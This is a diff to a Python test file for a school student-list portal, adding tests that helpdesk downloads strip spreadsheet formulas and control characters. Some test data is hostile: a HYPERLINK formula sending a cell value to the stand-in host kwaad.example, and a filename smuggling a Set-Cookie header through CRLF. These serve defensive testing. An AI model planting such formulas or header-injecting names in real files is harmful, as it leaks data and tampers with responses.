@@ -304,16 +304,59 @@ def test_afkeuren_sends_the_reason_without_a_bsn(login, client):
 
 
 # --- the original file --------------------------------------------------------------------------------
-def test_download_the_original_file_as_attachment(login, client):
+def test_download_is_a_values_only_copy_as_attachment(login, client):
     a = maak_aanlevering(aantal=2, bestandsnaam="klas 4 (definitief).xlsx")
     login("helpdesk")
     response = client.get(f"/helpdesk/{a.id}/bestand")
-    assert response.status_code == 200 and response.data == bytes(a.bestand)
+    assert response.status_code == 200 and response.data != bytes(a.bestand)
     assert response.headers["Content-Disposition"].startswith("attachment;")
-    assert "klas" in response.headers["Content-Disposition"]
+    assert "klas 4 (definitief).xlsx" in response.headers["Content-Disposition"]
     assert response.headers["Cache-Control"] == "no-store"
     assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     assert Gebeurtenis.get(Gebeurtenis.actie == "bestand_gedownload").gebruiker.email == "helpdesk@demo.nl"
+    # The copy is the checked list itself: it passes the same check, with the same rows.
+    from portal.lijsten.formats import format_voor
+    from portal.lijsten.validate import check_bytes
+    from tests.builders import VANDAAG
+    resultaat = check_bytes(response.data, format_voor("VO", "overstapper"), vandaag=VANDAAG)
+    assert resultaat.ok and [r["leerlingnummer"] for r in resultaat.leerlingen] == [r["leerlingnummer"] for r in json.loads(a.leerlingen_json)]
+
+
+def test_no_formula_reaches_the_helpdesk(login, client):
+    """An upload with a live HYPERLINK formula (and a cell text that looks like one): the helpdesk's
+    copy has no <f> element at all, and the text is a text cell with a quote prefix."""
+    import io
+    import zipfile
+    from openpyxl import load_workbook
+    from portal.lijsten.formats import format_voor
+    from tests.aanleveringen_builder import schone_rijen
+    from tests.builders import make_xlsx, leerlingen, titel
+    fmt = format_voor("VO", "overstapper")
+    rijen_met_formule = leerlingen(fmt, 2, seed=5)
+    rijen_met_formule[0][titel(fmt, "mentor")] = '=HYPERLINK("http://kwaad.example/?x="&B2,"mevr. De Vries")'
+    origineel = make_xlsx(fmt, rijen_met_formule)
+    assert b"<f>" in b"".join(zipfile.ZipFile(io.BytesIO(origineel)).read(n) for n in zipfile.ZipFile(io.BytesIO(origineel)).namelist())
+    rijen, _ = schone_rijen(fmt, 2, seed=5)
+    rijen[0]["mentor"] = '=HYPERLINK("http://kwaad.example/?x="&B2,"x")'
+    a = maak_aanlevering(rijen=rijen, bestand=origineel)
+    login("helpdesk")
+    data = client.get(f"/helpdesk/{a.id}/bestand").data
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        xml = b"".join(z.read(naam) for naam in z.namelist() if naam.endswith(".xml"))
+    assert b"<f>" not in xml and b"<f " not in xml
+    blad = load_workbook(io.BytesIO(data)).active
+    kolom = [c.value for c in blad[1]].index(titel(fmt, "mentor")) + 1
+    cel = blad.cell(row=2, column=kolom)
+    assert cel.data_type == "s" and cel.value.startswith("=HYPERLINK") and cel.quotePrefix
+
+
+def test_download_name_has_no_control_characters(login, client):
+    a = maak_aanlevering(aantal=1, bestandsnaam="klas\x01 4\r\nSet-Cookie: x=1\t.csv")
+    login("helpdesk")
+    response = client.get(f"/helpdesk/{a.id}/bestand")
+    kop = response.headers["Content-Disposition"]
+    assert response.status_code == 200 and not re.search(r"[\x00-\x1f\x7f]", kop)
+    assert "Set-Cookie" in kop and kop.endswith('.xlsx"')
 
 
 # --- retention --------------------------------------------------------------------------------------
